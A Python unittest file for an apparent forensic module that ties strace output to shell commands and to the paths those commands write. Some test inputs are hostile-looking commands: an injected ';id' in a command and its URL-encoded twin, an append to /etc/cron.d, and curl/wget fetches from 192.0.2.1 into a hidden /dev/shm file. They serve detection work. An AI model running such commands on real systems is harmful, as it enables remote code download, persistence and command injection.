"""Tests for what calls and command lines show of content."""

import unittest

from hypothesis import strategies

from plaso_extra_parsers.output import cause_content

from tests import properties


class CauseContentTest(unittest.TestCase):
    """Tests for what calls and command lines show of content."""

    def testGetData(self):
        """The bytes are those of the first text of a call, as strace writes them."""
        for arguments, data in (
            ('3</a>, "ab\\n", 3', "ab\\n"),
            ('3</a>, "a\\"b"..., 99', 'a\\"b'),
            ('3</a, "b>, "c", 1', "b>, "),
            ("3</a>, NULL, 0", ""),
            ('3, [{iov_base="ab", iov_len=2}], 1', "ab"),
            ('3, {msg_iov=[{iov_base="ab", iov_len=2}], msg_iovlen=1}, 0', "ab"),
            ('3</a>, "' + "x" * 5000 + '", 5000', ""),
            (None, ""),
        ):
            self.assertEqual(cause_content.GetData(arguments), data, arguments)

    def testGetWords(self):
        """Words are the same in a URL, in what strace shows of it, and in a command."""
        command = "/bin/sh -c 'getent hosts localhost;id'"
        request = "GET /lookup?host=localhost%3Bid HTTP/1.1\\r\\nHost: 192.0.2.1\\r\\n"
        common = cause_content.GetWords(command) & cause_content.GetWords(request)
        self.assertEqual(common, {"localhost", "id"})

    def testLengths(self):
        """More than 40 shown characters without zeros are enough."""
        for length, is_same in ((40, False), (41, True)):
            for text in ("\\1" * 99)[:length], ("\\0" * 9 + "x" * length):
                found = cause_content.IsSame(text, 900, text, 900)
                self.assertEqual(found, is_same, text)
            self.assertEqual(cause_content.IsTelling("\\" * length, 900), is_same)
        for text, is_same in (("sixsix", True), ("five5", False)):
            found = cause_content.IsSame(text, len(text), f"a {text:s}", 99)
            self.assertEqual(found, is_same, text)

    def testIsSame(self):
        """Bytes are the same if all of a text is, or more than a header is."""
        zeros = "\\177ELF" + "\\0" * 40
        long_text = "".join(map(str, range(40)))
        for written, written_size, read, read_size, is_same in (
            ("hello\\n", 6, "hello\\n", 6, True),
            ("hello\\n", 6, "say hello\\n", 10, True),
            ("hello\\n", 6, "hello\\n", 7, True),
            ("hell", 4, "say hell", 8, False),
            ("x", 1, "x", 1, False),
            ("ab", 2, "ab", 2, True),
            ("hello", 900, "hello", 900, False),
            (zeros, 100, zeros, 100, False),
            (long_text, 900, long_text, 70, True),
            (long_text, 900, f"x{long_text:s}", 70, False),
            ("", 5, "", 5, False),
            ("\\1\\2", 2, "\\1\\2", 2, False),
        ):
            self.assertEqual(
                cause_content.IsSame(written, written_size, read, read_size),
                is_same,
                (written, read),
            )
            if is_same:
                self.assertTrue(cause_content.IsTelling(written, written_size), written)
        for written, written_size in ((long_text[:40], 41), ("hello", 900), ("", 0)):
            self.assertFalse(cause_content.IsTelling(written, written_size), written)

    def testGetTargets(self):
        """Targets are absolute paths that a command writes, with what is copied."""
        for command, targets in (
            ("cp /a /b", [("/b", "/a")]),
            ("/usr/bin/sudo -n cp -p /a /b", [("/b", "/a")]),
            ("sudo X=1 mv a /b", [("/b", None)]),
            ("install -m 755 /a /b/", [("/b/a", "/a")]),
            ("cp /a /b /c", []),
            (
                "echo x >> /etc/cron.d/y; tee -a /c /d",
                [
                    ("/etc/cron.d/y", None),
                    ("/c", None),
                    ("/d", None),
                ],
            ),
            ("id 2>/dev/null >&2", []),
            ("ls > /dev/null", []),
            ("curl -s -o /dev/shm/.x http://192.0.2.1/x", [("/dev/shm/.x", None)]),
            ("wget http://192.0.2.1/x", []),
            ("cp 'unclosed /b", []),
            ("", []),
            (None, []),
        ):
            self.assertEqual(cause_content.GetTargets(command), targets, command)

    @properties.ForAll(strategies.text(max_size=200))
    def testAnyText(self, text):
        """No text raises an error."""
        cause_content.GetData(text)
        cause_content.GetWords(text)
        cause_content.IsSame(text, len(text), text[1:], 3)
        for path, source in cause_content.GetTargets(text):
            self.assertTrue(path.startswith("/"))
            self.assertTrue(source is None or source.startswith("/"))


if __name__ == "__main__":
    unittest.main()
